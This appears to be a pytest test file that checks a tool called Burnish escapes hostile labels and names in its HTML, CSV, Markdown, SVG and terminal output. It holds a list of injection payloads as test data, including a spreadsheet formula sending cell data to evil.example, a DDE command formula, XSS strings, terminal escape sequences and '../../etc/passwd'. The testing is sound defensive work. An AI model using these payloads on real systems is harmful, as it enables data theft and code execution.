"""Labels, names, answers and errors of strangers, through all that Burnish writes for people to open."""

from __future__ import annotations

import csv
import io
import json
import xml.etree.ElementTree as ET
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from evaluations import DATA, TRAINING, evaluation
from markdown_it import MarkdownIt

from burnish.cli import display, output
from burnish.csv_cells import unguarded
from burnish.datasets.audit_sheet import write_audit
from burnish.datasets.auditing import Audit, Copies, JudgedLabel
from burnish.datasets.correction_files import read_corrections
from burnish.datasets.document_features import DocumentFeatures
from burnish.datasets.documents import Document, SkippedDocument
from burnish.evaluation.evaluation import Evaluation
from burnish.evaluation.facts import StageTime
from burnish.evaluation.reports.folder import read_evaluation, write_evaluation

#: What each would do, were it taken for more than a text.
HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "'=1",
    "＝1",  # noqa: RUF001  meant
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"' onmouseover='alert(1)",
    "--><script>alert(1)</script>",
    "</title></style><svg/onload=alert(1)>",
    "javascript:alert(1)",
    "{{ 7 * 7 }}{% raw %}",
    "[link](javascript:alert(1)) ![image](http://evil.example/x.png)",
    "a | b `c` **d** _e_ ~f~ # g",
    "``` fence",
    "$\\frac{1}{0}$ $x^",
    "_hidden from legends",
    "[red]markup[/red] [/]",
    "\x1b[2J\x1b]8;;http://evil.example\x07cleared\x1b]52;c;x\x07",
    "right \u202egnp.exe\u2066 left",
    "one\rtwo\x08\x00three\x9b1m",
    "../../etc/passwd",
    "CON",
    "名前 📄 \U000e0041",
)
#: No file's name, and no text in a file of decisions, has a byte 0.
NAMES = tuple(text.replace("\0", "") for text in HOSTILE)
NOT_SEEN = set("\x00\x07\x08\x1b\x7f\x9b\u202e\u2066\u2028\u2029")


def hostile_evaluation() -> Evaluation:
    """One in which strangers have named everything."""
    made = evaluation("base", "large")
    names = dict(zip(made.labels, HOSTILE, strict=False))

    def renamed(one):
        probabilities = one.probabilities and {names[label]: p for label, p in one.probabilities.items()}
        return replace(
            one,
            page=one.page.replace(one.label, names[one.label]),
            label=names[one.label],
            predicted=names.get(one.predicted),
            answer=HOSTILE[len(one.page) % len(HOSTILE)],
            error=one.error and "\n".join(HOSTILE),
            probabilities=probabilities,
        )

    candidates = [
        replace(
            candidate,
            name=name,
            predictions=tuple(map(renamed, candidate.predictions)),
            validation=tuple(map(renamed, candidate.validation)),
            remarks=HOSTILE,
        )
        for candidate, name in zip(made.candidates, (" ".join(HOSTILE), HOSTILE[8]), strict=True)
    ]
    renamed_pages = {
        one.page: made.pages[before.page]
        for candidate, old in zip(candidates, made.candidates, strict=True)
        for one, before in zip(candidate.predictions, old.predictions, strict=True)
    }
    return replace(
        made,
        title=" ".join(HOSTILE),
        dataset=" ".join(HOSTILE),
        labels=tuple(names.values()),
        candidates=tuple(candidates),
        pages=renamed_pages,
        stages=tuple(StageTime(name=text, seconds=1) for text in HOSTILE),
        data=replace(
            DATA,
            skipped=tuple(SkippedDocument(name=text, reason=text) for text in HOSTILE),
            split=" ".join(HOSTILE),
        ),
        training={HOSTILE[8]: replace(TRAINING, hyperparameters={text: text for text in HOSTILE})},
        thumbnails={page: next(iter(made.thumbnails.values())) for page in list(renamed_pages)[:20]},
    )


@pytest.fixture(scope="module")
def folder(tmp_path_factory) -> Path:
    """An evaluation with hostile texts, as files."""
    here = tmp_path_factory.mktemp("hostile")
    write_evaluation(hostile_evaluation(), here / "evaluation")
    return here


class Markup(HTMLParser):
    """What a browser would do with a page."""

    ACTIVE = ("script", "iframe", "object", "embed", "form", "svg", "base", "link")

    def __init__(self) -> None:
        super().__init__()
        self.harm: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag in self.ACTIVE:
            self.harm.append(tag)
        for name, value in attrs:
            leads = name in ("href", "src", "srcset", "action", "formaction")
            if name.startswith("on") or (leads and urlsplit(value or "").scheme not in ("", "data")):
                self.harm.append(f"{tag} {name}={value}")
            if leads and not (value or "").startswith(("data:image/", "#", "pages/")):
                self.harm.append(f"{tag} {name}={value}")


def harm_in(html: str) -> list[str]:
    markup = Markup()
    markup.feed(html)
    return markup.harm


ATTACKS = {
    "html": ("a label, a name or an error is HTML or a script", "written as text; it does nothing"),
    "csv": ("a label or a name is a formula", "guarded with an apostrophe; read back as it was"),
    "md": ("a label or a name is Markdown, a link or an image", "written as text"),
    "terminal": ("a name holds control sequences of terminals, or turns text round", "shown as escapes"),
}


def audit_of(documents: list[Document]) -> Audit:
    return Audit(
        documents=len(documents),
        judged=tuple(
            JudgedLabel(document=one, suggested=f"{one.name} too", probability=1.0) for one in documents[:12]
        ),
        copies=(Copies(documents=(documents[0], *documents[12:20])),) if documents else (),
        outliers=tuple(documents[20:]),
        unjudged=dict.fromkeys(HOSTILE, 1),
    )


def features_of(document: Document) -> DocumentFeatures:
    return DocumentFeatures(
        document=document, lines=(), appearance=b"", thumbnail=b"", detail=b"", hashes=None
    )


def attack(kind: str):
    return pytest.mark.attack("Reports and tables", *ATTACKS[kind])


@attack("html")
def test_nothing_in_a_page_is_more_than_text(folder):
    for page in folder.rglob("*.html"):
        html = page.read_text()
        assert harm_in(html) == []
        assert not NOT_SEEN & set(html)
        assert "49" not in html or "{{ 7 * 7 }}" in html


@attack("csv")
def test_no_cell_of_a_table_is_a_formula_and_each_is_read_back_as_it_was(folder):
    tables_there = sorted((folder / "evaluation" / "tables").glob("*.csv"))
    assert len(tables_there) >= 7
    found = set()
    for table in tables_there:
        for row in csv.reader(io.StringIO(table.read_text(), newline="")):
            for cell in row:
                found.add(unguarded(cell))
                if cell[:1] in tuple("=+-@\t\r\n＝"):  # noqa: RUF001  meant
                    float(cell)  # a negative number stays a number
    assert set(hostile_evaluation().labels) <= found


@attack("md")
def test_nothing_in_a_model_card_is_more_than_text(folder):
    cards = list((folder / "evaluation" / "model-cards").glob("*.md"))
    assert len(cards) == 2
    for card in cards:
        text = card.read_text()
        assert not NOT_SEEN & set(text)
        _, front, body = text.split("---\n", 2)
        assert json.loads(front.split("- name: ")[1].splitlines()[0]) in {
            one.name for one in hostile_evaluation().candidates
        }
        tokens = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).parse(body)
        kinds = {one.type for token in tokens for one in (token, *(token.children or ()))}
        harmful = {"link_open", "image", "html_inline", "html_block", "em_open", "strong_open", "s_open"}
        assert kinds & {*harmful, "fence", "code_block"} == set()
        rows = [token for token in tokens if token.type == "tr_open"]
        cells = [token for token in tokens if token.type in ("td_open", "th_open")]
        assert len(rows) > 10
        training = 2 * (3 + len(HOSTILE)) if "How it was made" in body else 0
        assert len(cells) == 2 * 11 + 5 * (1 + len(hostile_evaluation().labels)) + training


def test_plots_are_drawn_and_hold_no_text_of_strangers(folder):
    plots = list((folder / "evaluation" / "plots").iterdir())
    assert {plot.suffix for plot in plots} == {".png", ".svg"}
    for plot in plots:
        if plot.suffix == ".svg":
            tags = {one.tag for one in ET.fromstring(plot.read_text()).iter()}  # noqa: S314  our own
            assert not {tag for tag in tags if tag.endswith(("}script", "}a", "}text", "}foreignObject"))}


def test_names_become_files_in_their_own_folder_and_nowhere_else(folder):
    inside = [path for path in folder.rglob("*") if path.is_file()]
    assert all(path.name.isprintable() and ".." not in path.name for path in inside)
    assert {path.parent.name for path in inside} == {"evaluation", "tables", "plots", "model-cards"}


def test_an_evaluation_in_json_is_read_back_as_it_was(folder):
    assert read_evaluation(folder / "evaluation").labels == hostile_evaluation().labels


@attack("csv")
def test_an_audit_sheet_is_text_and_its_decisions_come_back_as_they_were(tmp_path):
    documents = [
        Document(path=tmp_path / str(number), label=text, digest=f"{number:064x}", name=text)
        for number, text in enumerate(NAMES)
    ]
    audit = audit_of(documents)
    features = [features_of(document) for document in documents]
    pages = {one.digest: f"pages/{one.digest}.webp" for one in documents}
    sheet = write_audit(audit, features, tmp_path / "one", source="documents", pages=pages)
    html = sheet.page.read_text()
    assert harm_in(html) == []
    assert not NOT_SEEN & set(html)
    for _ in range(2):  # what was decided before is written again, and again as it was
        rows = read_corrections(sheet.corrections).rows
        assert {unguarded(row.name) for row in rows} == set(NAMES)
        assert {unguarded(row.label) for row in rows} == set(NAMES)
        decided = [replace(row, decision=row.label) for row in rows]
        sheet = write_audit(audit_of([]), [], tmp_path / "two", source="documents", decided=decided)


@attack("terminal")
def test_a_terminal_shows_what_is_hostile_and_obeys_none_of_it(capsys):
    output.print_result("\n".join(HOSTILE))
    output.print_message("\n".join(HOSTILE))
    output.show_table(HOSTILE, [HOSTILE])
    plain = display.PlainDisplay()
    for text in HOSTILE:
        plain.begin(text)
        plain.show(text)
        plain.end(well=True)
    shown = "".join(capsys.readouterr())
    assert not NOT_SEEN & set(shown)
    assert "\r" not in shown
    assert "[red]markup[/red]" in shown
    assert r"\u001b[2J" in shown


@attack("terminal")
def test_a_table_in_a_terminal_is_text_too(monkeypatch):
    from rich.console import Console

    written = io.StringIO()
    monkeypatch.setattr(
        "rich.console.Console", lambda **_: Console(file=written, force_terminal=True, width=2000)
    )
    output.show_table(("name",), [(text,) for text in HOSTILE])
    body = written.getvalue()
    assert "[red]markup[/red]" in body
    assert r"\u001b[2J" in body
    assert "\x07" not in body
    assert "evil.example\\u0007" in body


def test_json_for_programs_says_the_same_with_escapes(capsys):
    output.show_json(list(HOSTILE))
    shown = capsys.readouterr().out
    assert json.loads(shown) == list(HOSTILE)
    assert not NOT_SEEN & set(shown)
